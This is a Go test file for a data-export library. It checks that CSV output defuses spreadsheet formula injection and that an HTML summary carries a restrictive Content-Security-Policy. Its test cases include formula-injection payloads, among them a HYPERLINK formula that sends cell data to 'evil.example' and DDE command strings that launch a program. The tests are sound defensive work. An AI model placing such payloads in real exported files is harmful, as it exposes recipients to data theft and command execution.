package exporters_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/datarights/datarights/exporters"
	"github.com/datarights/datarights/rights"
)

// TestCSVDefusesFormulas: a text cell that a spreadsheet would run as a
// formula (=, +, -, @, tab, CR first) gets an apostrophe in front; one that
// is a plain number stays as it is, whatever its sign.
func TestCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	cases := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-1+1", "'-1+1"}, // digits and signs, but a sum, not a number
		{"--5", "'--5"},   // likewise
		{"+86 138 0013 8000", "'+86 138 0013 8000"},
		{"-", "'-"},
		{"-Infinity", "'-Infinity"},
		{"1e5e5", "1e5e5"}, // no formula character first: as it is
		// Plain numbers stay numbers.
		{"-12.5", "-12.5"},
		{"+8613800138000", "+8613800138000"},
		{"-0.5e-3", "-0.5e-3"},
		{"+.5", "+.5"},
		{"-7.", "-7."},
		// Anything else is untouched.
		{"杭州", "杭州"},
		{"a=b", "a=b"},
		{"O'Brien", "O'Brien"},
	}
	staging := exporters.NewStagingWith(t.TempDir(), exporters.StagingOptions{CSV: true})
	sink, err := staging.Sink("req-defuse", "crm")
	if err != nil {
		t.Fatal(err)
	}
	w, err := sink.Dataset("notes", []string{"text"})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range cases {
		if err := w.WriteRow([]any{tc.in}); err != nil {
			t.Fatal(err)
		}
	}
	report, err := w.Close()
	if err != nil {
		t.Fatal(err)
	}
	raw, err := readStaged(staging.Dir("req-defuse"), report.CSV.File)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, raw)
	}
	if len(records) != len(cases)+1 {
		t.Fatalf("%d records, want a header and %d rows", len(records), len(cases))
	}
	for i, tc := range cases {
		if got := records[i+1][0]; got != tc.want {
			t.Errorf("%q is written as %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestReportHasContentSecurityPolicy: summary.html, opened from disk where
// no server sends headers, carries its own policy, before anything it would
// govern: nothing loads or runs, only its inline styles apply.
func TestReportHasContentSecurityPolicy(t *testing.T) {
	t.Parallel()
	in := stage(t, rights.TypeCopy, rights.LocaleEN)
	out := filepath.Join(t.TempDir(), "req-7.zip")
	if _, err := exporters.BuildArchive(context.Background(), in, out); err != nil {
		t.Fatal(err)
	}
	page := string(openArchive(t, out).files["summary.html"])
	checkHTML(t, page)
	const meta = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'">`
	at := strings.Index(page, meta)
	if at < 0 {
		t.Fatalf("summary.html has no CSP meta tag %s:\n%.600s", meta, page)
	}
	if head := strings.Index(page, "</head>"); at > head || at > strings.Index(page, "<style>") {
		t.Error("the CSP meta tag comes after the styles or outside <head>")
	}
	if strings.Contains(page, "<script") || strings.Contains(page, " style=") {
		t.Error("summary.html has a script or a style attribute, which its policy blocks")
	}
}
